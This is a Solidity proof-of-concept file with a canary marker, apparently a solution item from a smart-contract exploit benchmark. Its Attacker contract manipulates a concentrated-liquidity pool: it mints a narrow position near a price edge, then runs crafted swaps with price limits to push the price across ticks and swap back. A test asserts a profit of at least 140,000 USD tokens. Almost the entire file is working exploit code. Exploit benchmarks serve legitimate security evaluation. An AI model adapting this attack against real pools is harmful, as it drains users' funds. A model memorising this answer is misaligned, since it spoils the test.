// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-3a71a22d-8b3a-4569-81eb-5d57136d8a16
import "../Base.sol";

contract Attacker {
    function run(IPool main, PositionNotes notes, Router router, IERC20 grain, IERC20 usd) external {
        usd.approve(address(notes), type(uint256).max);
        usd.approve(address(router), type(uint256).max);
        grain.approve(address(router), type(uint256).max);
        int24 edge = -700;
        notes.mint(
            INotes.Request(address(main), edge - 10, edge, 0, 8_000e18, 0, 0, address(this), block.timestamp)
        );
        uint160 at = Grid.priceAt(edge);
        sell(router, grain, usd, grain.balanceOf(address(this)) - 1e18, at);
        sell(router, grain, usd, 1e15, 1);
        if (main.slot().price >= at) return;
        IRouter.Hop[] memory hops = new IRouter.Hop[](1);
        sell(router, usd, grain, 130_000e18, uint160(1 << 96));
        hops[0] = IRouter.Hop(address(grain), address(usd), 500);
        router.exactIn(hops, grain.balanceOf(address(this)), 1, address(this), block.timestamp);
    }

    function sell(Router router, IERC20 a, IERC20 b, uint256 amount, uint160 limit) private {
        if (limit == 1) limit = Grid.priceAt(-705);
        router.upTo(IRouter.Hop(address(a), address(b), 3_000), amount, 0, limit, address(this), block.timestamp);
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        usd.mint(address(other), 150_000e18);
        grain.mint(address(other), 115_000e18);
    }

    function exploit() public {
        other.run(main, notes, router, grain, usd);
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(other));
        exploit();
        require(usd.balanceOf(address(other)) >= before + 140_000e18, "no gain");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
